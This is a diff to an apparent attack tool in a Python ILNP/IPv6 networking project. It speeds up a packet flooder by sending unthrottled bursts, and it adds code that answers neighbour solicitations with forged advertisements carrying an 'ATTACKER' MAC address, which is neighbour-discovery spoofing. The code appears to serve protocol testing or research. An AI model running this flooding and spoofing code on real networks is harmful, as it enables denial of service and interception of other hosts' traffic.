@@ -18,8 +18,10 @@ from pathlib import Path
 from wayname.ilnp.checksums import identifiers_checksum
 from wayname.ilnp.nonce import LONG_NONCE, with_nonce
 from wayname.ilnp.vectors import NID, Vector
+from wayname.wire import discovery
 from wayname.wire.ethernet import TYPE_IPV6, Frame
-from wayname.wire.ipv6 import UDP, Packet
+from wayname.wire.icmpv6 import NEIGHBOUR_SOLICITATION
+from wayname.wire.ipv6 import ICMPV6, UDP, Packet
 from wayname.wire.mac import Mac
 
 ATTACKER = Mac.parse("02:66:00:00:00:01")
@@ -27,6 +29,8 @@ ATTACKER = Mac.parse("02:66:00:00:00:01")
 DATA = bytes(24)
 # Packets that are made beforehand; who sends more begins again.
 MOST_FRAMES = 50_000
+# That are sent, without a rate, before what came is looked at.
+AT_ONCE = 64
 
 
 def attack(rng: random.Random, locator: IPv6Network, host: IPv6Address, port: int) -> Packet:
@@ -42,7 +46,7 @@ def flood(wire: socket.socket, frames: list[bytes], rate: float | None, seconds:
     began, sent = time.monotonic(), 0
     wire.setblocking(False)
     while (passed := time.monotonic() - began) < seconds:
-        due = len(frames) * (sent // len(frames) + 1) if rate is None else int(rate * passed) + 1
+        due = sent + AT_ONCE if rate is None else int(rate * passed) + 1
         while sent < due and time.monotonic() - began < seconds:
             try:
                 wire.send(frames[sent % len(frames)])
@@ -56,12 +60,22 @@ def flood(wire: socket.socket, frames: list[bytes], rate: float | None, seconds:
 
 
 def _drain(wire: socket.socket) -> None:
-    """Take what comes, and forget it."""
+    """Take what comes, and forget it; who asks for a neighbour's MAC gets ours, so that answers come here."""
     try:
-        while wire.recv(65536):
-            pass
+        while frame := wire.recv(65536):
+            if frame[20] == ICMPV6 and frame[54] == NEIGHBOUR_SOLICITATION:
+                wire.send(_advertisement(Frame.decode(frame)))
     except BlockingIOError:
         return
+
+
+def _advertisement(frame: Frame) -> bytes:
+    asked = Packet.decode(frame.payload)
+    solicitation = discovery.decode(asked)
+    assert isinstance(solicitation, discovery.NeighbourSolicitation)
+    message = discovery.NeighbourAdvertisement(solicitation.target, ATTACKER, solicited=True, override=True).message()
+    answer = message.packet(solicitation.target, asked.source, 255)
+    return Frame(frame.source, ATTACKER, TYPE_IPV6, answer.encode()).encode()
 
 
 def main() -> None:
